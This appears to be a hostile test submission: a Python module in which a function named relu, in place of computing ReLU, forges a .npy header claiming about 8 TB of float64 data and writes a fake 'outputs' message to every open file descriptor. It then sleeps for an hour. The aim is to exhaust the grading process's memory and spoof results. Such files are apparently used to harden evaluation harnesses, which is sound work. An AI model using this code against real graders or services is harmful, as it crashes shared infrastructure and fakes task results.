"""Hostile: a reply whose .npy header claims 10**12 float64 (8 TB) in a few bytes, so that reading
it would allocate them in twinnet's process."""
import io
import json
import os
import struct
import time

import numpy as np

CASES = 7  # relu's cases: public


def _npy():
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, np.zeros(1), allow_pickle=False)
    return buffer.getvalue().replace(b"(1,), }", b"(1000000000000,), }").replace(b" " * 12 + b"\n", b"\n")


def relu(Z):
    array = _npy()
    header = json.dumps({"kind": "outputs", "body": {"l": [{"d": [["result", {"a": 0}]]}] * CASES}}).encode()
    lengths = json.dumps([len(array)]).encode()
    message = struct.pack("<Q", len(header)) + header + struct.pack("<Q", len(lengths)) + lengths + array
    for fd in range(3, 64):
        try:
            os.write(fd, message)
        except OSError:
            pass
    time.sleep(3600)


def sigmoid(Z):
    return 1 / (1 + np.exp(-Z)), Z
